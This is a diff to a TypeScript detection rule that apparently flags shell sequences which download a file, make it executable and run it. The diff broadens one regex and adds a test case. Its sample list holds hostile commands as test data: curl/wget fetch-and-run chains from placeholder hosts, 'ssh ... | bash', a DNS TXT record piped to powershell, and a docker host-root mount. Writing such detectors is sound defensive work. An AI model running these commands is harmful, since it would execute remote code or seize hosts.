@@ -48,7 +48,7 @@ export const rule: Rule = {
     },
     // The same, a line each.
     {
-      re: /(?<![\w.-])(?:curl|wget)\s[^\n]*:\/\/[^\n]*\n[\s>$#]*(?:sudo\s+)?chmod\s[^\n]*(?:\+x|[0-7]{3,4})[^\n]*\n[\s>$#]*(?:sudo\s+|nohup\s+)*(?:\.\/[\w$]|\/tmp\/)/,
+      re: /(?<![\w.-])(?:curl|wget)\s[^\n]*:\/\/[^\n]*\n[\s>$#]*(?:sudo\s+)?chmod\s[^\n]*(?:\+x|[0-7]{3,4})[^\n]*\n[\s>$#]*(?:sudo\s+|nohup\s+)*(?:(?:ba|z|da|a)?sh\s+["']?[\w.~$/]|\.\/[\w$]|\/tmp\/)/,
       window: 512,
     },
     // An archive, unpacked, and what was in it is run
@@ -123,6 +123,7 @@ export const rule: Rule = {
       'scp root@203.0.113.7:/opt/x /tmp/x; chmod +x /tmp/x; /tmp/x',
       'wget -qO /var/tmp/.cache http://203.0.113.7/.cache ; nohup /var/tmp/.cache >/dev/null &',
       'curl -sO http://203.0.113.7/i.sh\nsh i.sh\n',
+      'curl https://files.invalid/a.sh -o /tmp/a.sh\nchmod +x /tmp/a.sh\nbash /tmp/a.sh',
       'ssh root@203.0.113.7 cat /x.sh | bash',
       'nslookup -q=txt cmd.files.invalid | powershell -',
       'docker -H tcp://10.0.0.5:2375 run -v /:/mnt alpine chroot /mnt',
